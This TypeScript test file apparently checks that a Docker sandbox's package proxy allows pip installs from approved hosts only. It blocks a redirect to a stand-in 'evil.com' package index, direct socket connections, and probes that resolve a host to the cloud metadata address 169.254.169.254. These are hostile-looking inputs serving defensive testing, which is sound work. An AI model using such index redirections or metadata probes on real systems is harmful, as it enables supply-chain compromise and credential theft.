import assert from 'node:assert/strict';
import { cpSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { dockerExecutor } from '../../../src/adapters/executors/docker/docker.ts';
import { dockerAgent, inside } from '../executors/docker/docker-agent.ts';
import { packageHosts, packageWorld, pages } from './package-proxy-world.ts';

const agent = await dockerAgent();

test('given a container with the proxy, when a package is installed by pip’s protocol, then the next command has it, and nothing else is reached', {
  skip: agent.skip,
}, async t => {
  const here = await packageWorld(t);
  cpSync(join(import.meta.dirname, 'package-client.py'), join(agent.options.workspace, 'client.py'));
  const executor = dockerExecutor({
    ...agent.options,
    mounts: [...here.proxy.mounts, { source: here.ca, target: '/run/ca.pem' }],
  });
  t.after(executor.close);
  here.proxy.admit(executor.user);
  const installed = await inside(executor, 'PIP_CERT=/run/ca.pem python3 client.py greeting');
  assert.equal(installed.stdout, 'Successfully installed greeting\n', installed.stderr);
  const used = await inside(executor, 'python3 -c "import greeting; print(greeting.say())"');
  assert.equal(used.stdout, 'hello from a wheel\n', used.stderr);
  const elsewhere = await inside(
    executor,
    'PIP_CERT=/run/ca.pem PIP_INDEX_URL=https://evil.com/simple python3 client.py greeting',
  );
  assert.match(elsewhere.stderr, /403 evil\.com is not one of the package hosts/);
  const past = await inside(
    executor,
    'python3 -c "import socket; socket.create_connection((\'151.101.0.223\', 443), 2)"',
  );
  assert.match(past.stderr, /unreachable/);
  assert.equal(here.world.connected.length, 2);
});

test('given a container with the proxy, when it asks for all but registries, smuggles, and takes hold of the socket, then nothing is reached, and the proxy goes on', {
  skip: agent.skip,
}, async t => {
  const here = await packageWorld(t, { hosts: [...packageHosts, 'inside.org'] });
  here.world.name('inside.org', ['169.254.169.254']);
  for (const name of ['package-client.py', 'package-probes.py'])
    cpSync(join(import.meta.dirname, name), join(agent.options.workspace, name));
  const executor = dockerExecutor({
    ...agent.options,
    mounts: [...here.proxy.mounts, { source: here.ca, target: '/run/ca.pem' }],
  });
  t.after(executor.close);
  here.proxy.admit(executor.user);
  const { stdout, stderr } = await inside(executor, 'python3 package-probes.py');
  const lines = stdout.trim().split('\n');
  assert.equal(lines.filter(line => line.startsWith('asked ')).length, 45, stderr);
  assert.deepEqual(
    lines.filter(line => / 200 |socket changed/.test(line)),
    [],
  );
  assert.deepEqual(
    lines.filter(line => line.startsWith('tunnel ')),
    ['tunnel closed', 'tunnel closed', 'tunnel closed'],
  );
  assert.ok(
    lines.some(line => line.startsWith('socket ')),
    stdout,
  );
  assert.deepEqual(
    here.world.connected.filter(address => address !== pages),
    [],
  );
  assert.deepEqual([here.asked.pages, here.asked.files, here.asked.elsewhere], [[], [], []]);
  const installed = await inside(executor, 'PIP_CERT=/run/ca.pem python3 package-client.py greeting');
  assert.equal(installed.stdout, 'Successfully installed greeting\n', installed.stderr);
});
